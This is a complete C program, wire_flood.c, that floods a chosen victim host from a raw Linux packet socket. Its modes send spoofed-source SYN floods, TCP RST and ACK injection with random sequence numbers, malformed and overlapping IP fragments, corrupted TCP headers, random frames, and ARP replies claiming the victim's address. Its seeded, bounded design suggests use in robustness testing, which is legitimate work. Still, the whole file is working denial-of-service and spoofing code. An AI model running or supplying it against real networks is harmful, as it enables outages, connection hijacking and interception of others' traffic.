/* wire_flood.c - sends packets that nobody should send, as fast as the interface takes them
 *
 * usage: wire_flood INTERFACE KIND STATION HERE THERE PORT SECONDS COUNT SEED
 *
 * From a raw socket on INTERFACE to STATION (aa:bb:...), at most COUNT frames and SECONDS. HERE is an address of the
 * sender's side, THERE the victim's with the port PORT. KIND:
 *     random   any bytes behind an Ethernet header of IPv4, IPv6, ARP or anything
 *     broken   TCP segments with a few bits of their headers turned over
 *     syn      SYN from random addresses and ports
 *     rst ack  segments of connections from HERE that may exist, with random numbers
 *     frag     fragments that overlap, miss pieces or never end
 *     arp      claims to have THERE, and addresses at random
 * Prints how many frames were sent, at the end or at SIGTERM. The same SEED sends the same.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, FRAME_MAX = 1514, ETH = 14, IP = 20, TCP = 20 };

struct flood {
	uint8_t station[6];
	uint32_t here, there; /* network byte order */
	uint16_t port;
	uint64_t random;
};

static volatile sig_atomic_t enough;

static void stop(int sig)
{
	(void)sig;
	enough = 1;
}

static uint32_t draw(struct flood *f)
{
	f->random ^= f->random << 13;
	f->random ^= f->random >> 7;
	f->random ^= f->random << 17;
	return (uint32_t)(f->random >> 16);
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t sum(uint32_t s, const uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		s += i & 1 ? p[i] : (uint32_t)p[i] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void eth(struct flood *f, uint8_t *p, uint16_t type)
{
	memcpy(p, f->station, 6);
	put32(p + 6, 0x02000000 | (draw(f) & 0xffff));
	put16(p + 10, draw(f));
	put16(p + 12, type);
}

/* @frag: flags and offset as in the header. Return: bytes of the frame. */
static size_t ip4(struct flood *f, uint8_t *p, uint32_t src, uint32_t id, uint32_t frag,
		  size_t body)
{
	uint8_t *h = p + ETH;

	eth(f, p, ETHERTYPE_IP);
	memset(h, 0, IP);
	h[0] = 0x45;
	put16(h + 2, (uint32_t)(IP + body));
	put16(h + 4, id);
	put16(h + 6, frag);
	h[8] = 64;
	h[9] = IPPROTO_TCP;
	memcpy(h + 12, &src, 4);
	memcpy(h + 16, &f->there, 4);
	put16(h + 10, fold(sum(0, h, IP)));
	return ETH + IP + body;
}

static size_t segment(struct flood *f, uint8_t *p, uint32_t src, uint16_t sport, uint8_t flags,
		      size_t bytes)
{
	uint8_t *t = p + ETH + IP;
	size_t len = ip4(f, p, src, draw(f), 0x4000, TCP + bytes);

	memset(t, 0, TCP);
	put16(t, sport);
	put16(t + 2, f->port);
	put32(t + 4, draw(f));
	put32(t + 8, draw(f));
	t[12] = 0x50;
	t[13] = flags;
	put16(t + 14, draw(f));
	for (size_t i = 0; i < bytes; i++)
		t[TCP + i] = (uint8_t)draw(f);
	put16(t + 16, fold(sum(IPPROTO_TCP + (uint32_t)(TCP + bytes), p + ETH + 12, 8) +
			   sum(0, t, TCP + bytes)));
	return len;
}

static size_t random_frame(struct flood *f, uint8_t *p)
{
	static const uint16_t types[] = { ETHERTYPE_IP, ETHERTYPE_IPV6, ETHERTYPE_ARP, 0x8100 };
	uint32_t kind = draw(f);
	size_t len = ETH + draw(f) % (FRAME_MAX - ETH);

	for (size_t i = ETH; i < len; i++)
		p[i] = (uint8_t)draw(f);
	eth(f, p, kind & 4 ? types[kind & 3] : (uint16_t)(kind >> 8));
	if (kind & 8 && len > ETH + IP + TCP)
		p[ETH] = kind & 16 ? 0x45 : 0x60;
	return len;
}

static size_t broken(struct flood *f, uint8_t *p)
{
	size_t len = segment(f, p, f->here, (uint16_t)(32768 + draw(f) % 28232), (uint8_t)draw(f),
			     draw(f) % 100);

	for (uint32_t n = 1 + draw(f) % 4; n; n--)
		p[ETH + draw(f) % (IP + TCP)] ^= (uint8_t)(1u << draw(f) % 8);
	return draw(f) % 8 ? len : ETH + draw(f) % (uint32_t)(len - ETH);
}

static size_t frag(struct flood *f, uint8_t *p)
{
	size_t body = 8 + draw(f) % 1400 / 8 * 8;
	size_t len = ip4(f, p, f->here, draw(f) % 64, (draw(f) % 4 ? 0x2000u : 0) | (draw(f) % 200),
			 body);

	for (size_t i = ETH + IP; i < len; i++)
		p[i] = (uint8_t)draw(f);
	return len;
}

static size_t arp(struct flood *f, uint8_t *p)
{
	uint8_t *a = p + ETH;
	uint32_t claimed = draw(f) % 2 ? f->there : htonl(0x0a090000 | (16 + draw(f) % 200));

	eth(f, p, ETHERTYPE_ARP);
	if (draw(f) % 2)
		memset(p, 0xff, 6);
	memcpy(a, (uint8_t[]){ 0, 1, 8, 0, 6, 4, 0, 1 }, 8);
	a[7] = (uint8_t)(1 + draw(f) % 2);
	memcpy(a + 8, p + 6, 6);
	memcpy(a + 14, &claimed, 4);
	memset(a + 18, 0, 6);
	memcpy(a + 24, &f->there, 4);
	return 60;
}

static size_t frame(struct flood *f, const char *kind, uint8_t *p)
{
	uint16_t port = (uint16_t)(32768 +
				   draw(f) % 28232); /* what a client's kernel chooses from */

	memset(p + ETH, 0, 60 - ETH);
	if (!strcmp(kind, "random"))
		return random_frame(f, p);
	if (!strcmp(kind, "broken"))
		return broken(f, p);
	if (!strcmp(kind, "syn"))
		return segment(f, p, htonl(0x0a0a0000 | (draw(f) & 0xffff)), port, 0x02, 0);
	if (!strcmp(kind, "rst"))
		return segment(f, p, f->here, port, 0x04, 0);
	if (!strcmp(kind, "ack"))
		return segment(f, p, f->here, port, 0x10, draw(f) % 64);
	if (!strcmp(kind, "frag"))
		return frag(f, p);
	return strcmp(kind, "arp") ? 0 : arp(f, p);
}

static uint64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

/* Return: frames sent. */
static uint64_t flood(int fd, struct flood *f, const char *kind, uint64_t ms, uint64_t count)
{
	static uint8_t bytes[BATCH][FRAME_MAX + 60];
	uint64_t end = now_ms() + ms, sent = 0;

	while (!enough && sent < count && now_ms() < end) {
		struct mmsghdr m[BATCH] = { 0 };
		struct iovec v[BATCH];
		int n;

		for (int i = 0; i < BATCH; i++) {
			v[i] = (struct iovec){ bytes[i], frame(f, kind, bytes[i]) };
			if (!v[i].iov_len)
				return 0;
			m[i].msg_hdr.msg_iov = &v[i];
			m[i].msg_hdr.msg_iovlen = 1;
		}
		n = sendmmsg(fd, m, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			return sent;
		sent += n > 0 ? (uint64_t)n : 0;
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET };
	struct flood f = { 0 };
	uint64_t sent;
	int fd;

	if (argc != 10 ||
	    sscanf(argv[3], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &f.station[0], &f.station[1],
		   &f.station[2], &f.station[3], &f.station[4], &f.station[5]) != 6 ||
	    inet_pton(AF_INET, argv[4], &f.here) != 1 ||
	    inet_pton(AF_INET, argv[5], &f.there) != 1) {
		fprintf(stderr,
			"usage: wire_flood INTERFACE KIND STATION HERE THERE PORT SECONDS COUNT SEED\n");
		return 2;
	}
	f.port = (uint16_t)atoi(argv[6]);
	f.random = strtoull(argv[9], NULL, 10) * 0x9e3779b97f4a7c15u | 1;
	signal(SIGTERM, stop);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to))) {
		perror("wire_flood");
		return 1;
	}
	sent = flood(fd, &f, argv[2], strtoull(argv[7], NULL, 10) * 1000,
		     strtoull(argv[8], NULL, 10));
	printf("%llu\n", (unsigned long long)sent);
	return sent ? 0 : 1;
}
